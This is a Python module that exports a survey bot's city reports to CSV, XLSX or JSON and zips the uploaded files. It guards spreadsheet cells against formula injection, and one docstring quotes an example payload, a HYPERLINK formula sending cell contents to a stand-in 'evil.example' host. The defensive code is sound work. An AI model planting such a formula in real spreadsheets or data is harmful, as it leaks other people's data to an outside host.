"""Exports for the coordination team: every city's report as CSV, XLSX or JSON, and a zip of the files.

Rules of this module:
- Streaming: reports are read from storage one at a time (`iter_reports_with_answers`) and
  written as they come; nothing holds every report in memory (openpyxl's write-only mode
  spools rows to disk, the zip copies each file from disk in chunks).
- Atomic: an export is written to a temporary file in the output's directory, flushed to
  disk, and moved into place with `os.replace` only once complete. A failed export leaves
  no partial file, and an earlier export at the same path stays as it was.
- An output path that cannot be written raises `ExportError`, whose message names the path.
- Only answers that apply are exported (`engine.exported_answers`): answers kept for a branch
  that no longer applies (e.g. an adoption date after "yes" became "no") are left out.
- Values are exported as stored: choice ids (multiple choice joined with ";"), "YYYY-MM"
  months, texts as written. Columns are keyed by question id, which is stable across
  changes of wording and across languages; translated question texts are only ever an
  extra header row.
- Spreadsheet cells are guarded against formula injection (see `spreadsheet_cell`); JSON
  is data for programs and carries the values unchanged.
- Answers and file names are personal data: they are never logged. Logs name reports by id.
- Slow disk work (copying files into the zip, saving the workbook) runs in a worker thread
  so the bot keeps answering while an export is built.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import logging
import os
import re
import shutil
import tempfile
import zipfile
from collections.abc import AsyncIterator, Iterator, Sequence
from contextlib import aclosing, contextmanager, suppress
from pathlib import Path
from typing import IO, Any, Literal, TypeVar, get_args

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

from bot.durable import sync_directory
from bot.progress import SILENT, Progress
from bot.storage import City, ReportExport, Storage
from conversation import engine
from conversation.i18n import DEFAULT_LANGUAGE, Translator, get_translator
from conversation.model import Kind, Question, Survey
from conversation.render import format_size
from conversation.state import AnswerValue, Attachment, Report

logger = logging.getLogger(__name__)

_T = TypeVar("_T")

ExportFormat = Literal["csv", "xlsx", "json"]
FORMATS: tuple[ExportFormat, ...] = get_args(ExportFormat)

#: The columns before the question columns, and after them.
LEADING_COLUMNS: tuple[str, ...] = ("city", "country", "status", "submitted_at", "languages")
TRAILING_COLUMNS: tuple[str, ...] = ("attachments", "attachment_count")

#: A spreadsheet reads a cell starting with one of these as a formula (tab and carriage
#: return are on OWASP's list too: some programs drop them and then see the next character).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

#: The most characters an Excel cell holds; longer values are cut there in XLSX only.
XLSX_CELL_LIMIT = 32_767
XLSX_SHEET_TITLE = "Reports"

MISSING_LIST_NAME = "MISSING.txt"

# Characters that are not allowed (or not portable) in a file or folder name inside a zip.
_UNSAFE_NAME_CHARS = re.compile(r'[\x00-\x1f\x7f<>:"/\\|?*]')
_MAX_NAME_CHARS = 150
# Media that is already compressed: stored as is rather than deflated again.
_STORED_MIME_PREFIXES = ("image/", "video/", "audio/")
_STORED_MIME_TYPES = frozenset({"application/zip", "application/gzip", "application/x-7z-compressed"})


class ExportError(Exception):
    """The export could not be written; the message names the output path and why."""


# ---------------------------------------------------------------- reports


async def export_reports(
    storage: Storage,
    survey: Survey,
    fmt: ExportFormat,
    output: Path,
    *,
    header_language: str = DEFAULT_LANGUAGE,
    progress: Progress = SILENT,
) -> int:
    """Write every city's report of `survey` to `output` as CSV, XLSX or JSON.

    CSV and XLSX have one row per city: `city`, `country`, `status`, `submitted_at`
    (ISO 8601 in UTC, or empty), `languages` (the answer languages, comma-separated),
    one column per question id in the form's order (the file-upload question excepted),
    `attachments` ("plan.pdf (1.2 MiB): its caption; photo.jpg (300 KiB)") and `attachment_count`.

    The first header row is always the column ids, so programs reading the file never
    depend on wording. A second header row holds the column titles (question texts) in
    `header_language`: XLSX always has it (English by default), as people read the
    workbook; CSV has it only when `header_language` is not English, so the default CSV
    stays a plain one-header table for programs.

    CSV is written as UTF-8 with a byte-order mark, so Excel and LibreOffice open
    Arabic, Chinese and Cyrillic text correctly.

    JSON is a list with one object per city: `city`, `country`, `status`,
    `submitted_at`, `languages` (list), `answers` (question id → value; a list for
    multiple choice) and `attachments` (`name`, `size`, `mime_type`, `sha256`, `caption`).

    Args:
        storage: The open storage.
        survey: The survey whose reports are exported.
        fmt: "csv", "xlsx" or "json".
        output: The file to write; replaced only once the export is complete.
        header_language: The language of the column titles (CSV and XLSX).
        progress: Told of each report written (a progress bar on a terminal).

    Returns:
        The number of reports written.

    Raises:
        ExportError: If `output` cannot be written (its directory is missing or not
            writable, it is a directory, the disk is full …); no partial file is left.
        ValueError: If `fmt` is not a known format.
        conversation.i18n.UnknownLanguage: If `header_language` is not supported.
    """
    if fmt not in FORMATS:
        raise ValueError(f"unknown export format {fmt!r}; expected one of {', '.join(FORMATS)}")
    labels = get_translator(header_language)
    columns = _question_columns(survey)
    reports = storage.iter_reports_with_answers(survey.id)
    with _replacing(output) as tmp:
        async with aclosing(reports):
            counted = _counted(reports, progress)
            if fmt == "csv":
                count = await _write_csv(tmp, survey, columns, counted, labels)
            elif fmt == "xlsx":
                count = await _write_xlsx(tmp, survey, columns, counted, labels)
            else:
                count = await _write_json(tmp, survey, columns, counted)
    logger.info("exported %d reports of survey %s as %s to %s", count, survey.id, fmt, output)
    return count


def spreadsheet_cell(value: str) -> str:
    """Guard a text cell against formula (CSV) injection.

    A spreadsheet program that opens a CSV file, and openpyxl when it writes a cell,
    treat text starting with "=" (also "+", "-", "@" in Excel and LibreOffice) as a
    formula. An answer such as `=HYPERLINK("http://evil.example/?"&A1, "click")` would
    then run in the coordination team's spreadsheet and could leak other cells or
    start programs. A leading apostrophe makes the cell plain text; the value is
    otherwise unchanged (the JSON export carries the exact value). The rule is kept
    simple and predictable on purpose, so a phone number "+49 40 …" or a text
    starting with "-" gets the apostrophe too.

    Args:
        value: The cell text.

    Returns:
        `value`, with an apostrophe in front if it starts like a formula.
    """
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def column_ids(survey: Survey) -> list[str]:
    """Return the CSV/XLSX column ids (the first header row) for `survey`.

    Args:
        survey: The survey.

    Returns:
        The fixed columns, the question ids in the form's order, and the file columns.
    """
    return [*LEADING_COLUMNS, *(q.id for q in _question_columns(survey)), *TRAILING_COLUMNS]


def column_titles(survey: Survey, tr: Translator) -> list[str]:
    """Return the column titles (the optional second header row) in `tr`'s language.

    Args:
        survey: The survey.
        tr: The translator of the header language.

    Returns:
        One title per column of `column_ids`.
    """
    _ = tr.t
    leading = [_("Name of city"), _("Country"), _("Status"), _("Submitted at (UTC)"), _("Answer languages")]
    trailing = [_("Supporting files"), _("Number of files")]
    return [*leading, *(tr.gettext(q.text) for q in _question_columns(survey)), *trailing]


def _question_columns(survey: Survey) -> tuple[Question, ...]:
    """The questions that get a column: all but the file upload (files have their own)."""
    return tuple(q for q in survey.questions if q.kind != Kind.FILE_UPLOAD)


def _applying(
    survey: Survey, city: City, answers: dict[str, AnswerValue], files: tuple[Attachment, ...]
) -> dict[str, object]:
    """The answers of this report that apply."""
    report = Report(answers=answers, status=city.status, attachments=files, submitted_at=city.submitted_at)
    return engine.exported_answers(survey, report)


def _iso_utc(moment: dt.datetime | None) -> str | None:
    """An ISO 8601 time in UTC (a naive time is taken to be UTC already)."""
    if moment is None:
        return None
    moment = moment.replace(tzinfo=dt.UTC) if moment.tzinfo is None else moment.astimezone(dt.UTC)
    return moment.isoformat()


def _flat(value: object) -> str:
    """An answer as one cell's text: multiple choice ids joined with ";"."""
    if value is None:
        return ""
    if isinstance(value, tuple | list):
        return ";".join(str(item) for item in value)
    return str(value)


def _row(
    survey: Survey,
    columns: Sequence[Question],
    export: ReportExport,
    sizes: Translator,
) -> list[str | int]:
    """One spreadsheet row (texts not yet guarded) for one report."""
    city, answers, files = export
    applying = _applying(survey, city, answers, files)
    listed = "; ".join(
        f"{a.name} ({format_size(sizes, a.size)})" + (f": {a.caption}" if a.caption else "") for a in files
    )
    return [
        city.name,
        city.country,
        city.status.value,
        _iso_utc(city.submitted_at) or "",
        ",".join(city.languages),
        *(_flat(applying.get(q.id)) for q in columns),
        listed,
        len(files),
    ]


async def _write_csv(
    tmp: Path,
    survey: Survey,
    columns: Sequence[Question],
    reports: AsyncIterator[ReportExport],
    labels: Translator,
) -> int:
    """Write the CSV export to `tmp`; return the number of reports."""
    sizes = get_translator(DEFAULT_LANGUAGE)
    count = 0
    with tmp.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(column_ids(survey))
        if labels.language != DEFAULT_LANGUAGE:
            writer.writerow([spreadsheet_cell(title) for title in column_titles(survey, labels)])
        async for export in reports:
            row = _row(survey, columns, export, sizes)
            writer.writerow([spreadsheet_cell(cell) if isinstance(cell, str) else cell for cell in row])
            count += 1
        _sync(fh)
    return count


def _xlsx_cell(value: str | int, city: City, column: str) -> str | int | None:
    """A guarded XLSX cell value: no formulas, no characters XML forbids, within Excel's limit."""
    if isinstance(value, int):
        return value
    if not value:
        return None
    text = spreadsheet_cell(ILLEGAL_CHARACTERS_RE.sub("", value))
    if len(text) > XLSX_CELL_LIMIT:
        logger.warning(
            "report %d: column %s has %d characters, more than an Excel cell holds; cut in the XLSX export",
            city.id,
            column,
            len(text),
        )
        text = text[: XLSX_CELL_LIMIT - 1] + "…"
    return text


def _bold_row(ws: Any, values: Sequence[str]) -> list[Cell]:
    """A header row of bold cells for the write-only sheet `ws` (openpyxl's stubs type it as Any)."""
    cells = []
    for value in values:
        cell = WriteOnlyCell(ws, value=spreadsheet_cell(value))
        cell.font = Font(bold=True)
        cells.append(cell)
    return cells


async def _write_xlsx(
    tmp: Path,
    survey: Survey,
    columns: Sequence[Question],
    reports: AsyncIterator[ReportExport],
    labels: Translator,
) -> int:
    """Write the XLSX export to `tmp`; return the number of reports."""
    sizes = get_translator(DEFAULT_LANGUAGE)
    ids = column_ids(survey)
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(XLSX_SHEET_TITLE)
    # Settings of a write-only sheet must be made before its first row.
    ws.freeze_panes = "B3"  # keep both header rows and the city column in view
    question_ids = {q.id for q in columns}
    for index, column in enumerate(ids, 1):
        ws.column_dimensions[get_column_letter(index)].width = 40 if column in question_ids else 18
    ws.append(_bold_row(ws, ids))
    ws.append(_bold_row(ws, column_titles(survey, labels)))
    count = 0
    try:
        async for export in reports:
            row = _row(survey, columns, export, sizes)
            ws.append([_xlsx_cell(value, export[0], column) for value, column in zip(row, ids, strict=True)])
            count += 1
    except BaseException:
        # openpyxl deletes a write-only sheet's spooled rows only when the workbook is saved.
        await asyncio.to_thread(_discard, wb)
        raise

    def save() -> None:
        with tmp.open("wb") as fh:
            wb.save(fh)
            _sync(fh)

    await asyncio.to_thread(save)
    return count


def _discard(wb: Workbook) -> None:
    """Remove the rows of an unfinished write-only workbook that openpyxl spooled to disk.

    Its public API removes them only when it saves the workbook, so it is saved, to nowhere.
    """
    with suppress(Exception):
        wb.save(_Nowhere())


class _Nowhere(io.RawIOBase):
    """A writable stream that keeps nothing."""

    def writable(self) -> bool:
        """Say the stream takes writes."""
        return True

    def write(self, data: Any) -> int:
        """Drop `data`, reporting it all written."""
        return len(data)


def _json_object(survey: Survey, columns: Sequence[Question], export: ReportExport) -> dict[str, object]:
    """One report as a JSON object."""
    city, answers, files = export
    applying = _applying(survey, city, answers, files)
    shown = {q.id for q in columns}
    return {
        "city": city.name,
        "country": city.country,
        "status": city.status.value,
        "submitted_at": _iso_utc(city.submitted_at),
        "languages": list(city.languages),
        "answers": {
            qid: list(value) if isinstance(value, tuple) else value for qid, value in applying.items() if qid in shown
        },
        "attachments": [
            {"name": a.name, "size": a.size, "mime_type": a.mime_type, "sha256": a.sha256, "caption": a.caption}
            for a in files
        ],
    }


async def _write_json(
    tmp: Path, survey: Survey, columns: Sequence[Question], reports: AsyncIterator[ReportExport]
) -> int:
    """Write the JSON export to `tmp`, one report at a time; return the number of reports."""
    count = 0
    with tmp.open("w", encoding="utf-8", newline="\n") as fh:
        fh.write("[\n")
        async for export in reports:
            if count:
                fh.write(",\n")
            fh.write(json.dumps(_json_object(survey, columns, export), ensure_ascii=False))
            count += 1
        fh.write("\n]\n")
        _sync(fh)
    return count


# ---------------------------------------------------------------- files


async def export_files(
    storage: Storage, survey: Survey, files_dir: Path, output: Path, *, progress: Progress = SILENT
) -> int:
    """Write a zip of every report's supporting files, one folder per city.

    Entries are named `"<City> (<Country>)/<original name>"`, with characters that are
    not allowed in file names replaced by "_" and duplicates numbered ("plan (2).pdf").
    Each file is copied from `files_dir/<sha[:2]>/<sha>` in chunks. A file whose stored
    copy is missing or unreadable is logged and listed in `MISSING.txt` at the top of
    the zip instead.

    Args:
        storage: The open storage.
        survey: The survey whose reports' files are exported.
        files_dir: Where uploaded files are stored by content hash.
        output: The zip file to write; replaced only once it is complete.
        progress: Told of the bytes of each file written (a progress bar on a terminal).

    Returns:
        The number of files written into the zip (`MISSING.txt` not counted).

    Raises:
        ExportError: If `output` cannot be written; no partial file is left.
    """
    count = 0
    missing: list[str] = []
    folders: set[str] = set()
    reports = storage.iter_reports_with_answers(survey.id)
    with _replacing(output) as tmp, tmp.open("wb") as fh:
        with zipfile.ZipFile(fh, "w", compression=zipfile.ZIP_DEFLATED, allowZip64=True) as zf:
            async with aclosing(reports):
                async for city, _answers, files in reports:
                    if not files:
                        continue
                    folder = _unique(safe_name(f"{city.name} ({city.country})"), folders)
                    names: set[str] = set()
                    for attachment in files:
                        arcname = f"{folder}/{_unique(safe_name(attachment.name), names)}"
                        blob = files_dir / attachment.sha256[:2] / attachment.sha256
                        if await asyncio.to_thread(_add_file, zf, blob, arcname, attachment.mime_type):
                            count += 1
                            progress.update(attachment.size)
                        else:
                            logger.warning(
                                "report %d: stored file %s is missing or unreadable; listed in %s",
                                city.id,
                                attachment.sha256,
                                MISSING_LIST_NAME,
                            )
                            missing.append(f"{arcname}\t{attachment.size} bytes\tsha256 {attachment.sha256}")
            if missing:
                lines = [
                    "These files are recorded in the reports, but their stored copies were not found:",
                    "",
                    *missing,
                ]
                zf.writestr(MISSING_LIST_NAME, "\n".join(lines) + "\n")
        fh.flush()
        _sync(fh)
    logger.info("exported %d files of survey %s to %s (%d missing)", count, survey.id, output, len(missing))
    return count


def safe_name(name: str) -> str:
    """Return `name` usable as one file or folder name in a zip, on any system.

    Path separators, control characters and characters Windows forbids become "_";
    leading and trailing dots and spaces are dropped (no ".." or hidden names); an
    empty result becomes "file"; very long names are shortened, keeping the extension.

    Args:
        name: A file name or folder name as the contact gave it.

    Returns:
        The safe name.
    """
    cleaned = _UNSAFE_NAME_CHARS.sub("_", name).strip(" .")
    if not cleaned:
        return "file"
    if len(cleaned) > _MAX_NAME_CHARS:
        stem, dot, ext = cleaned.rpartition(".")
        if dot and 0 < len(ext) <= 10:
            cleaned = stem[: _MAX_NAME_CHARS - len(ext) - 1].rstrip(" .") + "." + ext
        else:
            cleaned = cleaned[:_MAX_NAME_CHARS].rstrip(" .")
    return cleaned


def _unique(name: str, taken: set[str]) -> str:
    """`name`, or "name (2).ext", "name (3).ext" … if taken (compared ignoring case); records it."""
    candidate = name
    stem, dot, ext = name.rpartition(".")
    if not dot or not stem:
        stem, dot, ext = name, "", ""
    number = 2
    while candidate.casefold() in taken:
        candidate = f"{stem} ({number}){dot}{ext}"
        number += 1
    taken.add(candidate.casefold())
    return candidate


def _add_file(zf: zipfile.ZipFile, blob: Path, arcname: str, mime_type: str | None) -> bool:
    """Copy one stored file into the zip; False if it cannot be opened (nothing is added then)."""
    try:
        src = blob.open("rb")
    except OSError:
        return False
    with src:
        try:
            info = zipfile.ZipInfo.from_file(blob, arcname, strict_timestamps=False)
        except OSError:
            return False
        mime = (mime_type or "").lower()
        stored = mime.startswith(_STORED_MIME_PREFIXES) or mime in _STORED_MIME_TYPES
        info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
        with zf.open(info, "w") as dest:
            shutil.copyfileobj(src, dest, 1024 * 1024)
    return True


# ---------------------------------------------------------------- atomic output


async def _counted(items: AsyncIterator[_T], progress: Progress) -> AsyncIterator[_T]:
    """The same items, telling `progress` of each one once it has been handled."""
    async for item in items:
        yield item
        progress.update(1)


@contextmanager
def _replacing(output: Path) -> Iterator[Path]:
    """Yield a temporary path beside `output`; move it onto `output` if the body succeeds.

    The temporary file is removed whatever happens; `OSError`s (from creating it,
    writing it or moving it) become `ExportError`s naming `output`.
    """
    if output.is_dir():
        raise ExportError(f"cannot write the export to {output}: it is a directory")
    try:
        fd, name = tempfile.mkstemp(prefix=f".{output.name}.", suffix=".part", dir=output.parent)
    except OSError as exc:
        raise ExportError(f"cannot write the export to {output}: {_reason(exc, output.parent)}") from exc
    os.close(fd)
    tmp = Path(name)
    try:
        yield tmp
        os.replace(tmp, output)
        sync_directory(output.parent)
    except OSError as exc:
        where = f" ({exc.filename})" if exc.filename else ""
        raise ExportError(f"cannot write the export to {output}: {exc.strerror or exc}{where}") from exc
    finally:
        tmp.unlink(missing_ok=True)


def _reason(exc: OSError, where: Path) -> str:
    """Words for an OS error while exporting."""
    if isinstance(exc, FileNotFoundError):
        return f"directory {where} does not exist"
    if isinstance(exc, NotADirectoryError):
        return f"{where} is not a directory"
    return exc.strerror or str(exc)


def _sync(fh: IO[str] | IO[bytes]) -> None:
    """Flush a file to the disk."""
    fh.flush()
    os.fsync(fh.fileno())


__all__ = [
    "FORMATS",
    "ExportError",
    "ExportFormat",
    "column_ids",
    "column_titles",
    "export_files",
    "export_reports",
    "safe_name",
    "spreadsheet_cell",
]
